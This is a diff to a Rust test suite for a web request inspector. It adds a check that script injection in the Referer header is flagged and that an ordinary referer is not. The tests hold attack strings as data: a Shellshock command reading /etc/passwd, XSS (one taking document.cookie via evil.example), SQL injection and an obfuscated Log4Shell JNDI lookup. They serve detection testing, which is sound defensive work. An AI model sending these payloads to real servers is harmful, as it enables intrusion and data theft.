@@ -138,7 +138,7 @@ fn values_people_really_send_stay_quiet() {
 }
 
 #[test]
-fn header_borne_attacks_are_found_in_the_user_agent_and_the_line() {
+fn header_borne_attacks_are_found_in_the_user_agent_the_referer_and_the_line() {
     let i = Inspector::new(|_| true);
     let hits = |ua: &str| i.inspect(&request("/", ua)).into_iter().map(|f| f.attack).collect::<Vec<_>>();
     assert_eq!(hits("() { :; }; /bin/bash -c 'cat /etc/passwd'"), [Attack::CommandInjection]);
@@ -146,6 +146,10 @@ fn header_borne_attacks_are_found_in_the_user_agent_and_the_line() {
     assert!(hits("<script>alert(1)</script>").contains(&Attack::Xss));
     assert!(hits("' or 1=1-- ").contains(&Attack::SqlInjection));
     let mut e = request("/", UA);
+    e.referer = Some("https://evil.example/?q=<script>alert(document.cookie)</script>".into());
+    assert_eq!(i.inspect(&e).into_iter().map(|f| f.attack).collect::<Vec<_>>(), [Attack::Xss]);
+    e.referer = Some("https://shop.example.com/search?q=desk&page=2".into());
+    assert!(i.inspect(&e).is_empty(), "an ordinary referer is not an attack");
     e.raw.line = "GET / \"X-Api-Version: ${${::-j}ndi:rmi://x/a}\"".into();
     assert_eq!(i.inspect(&e).into_iter().map(|f| f.attack).collect::<Vec<_>>(), [Attack::Log4Shell]);
 }
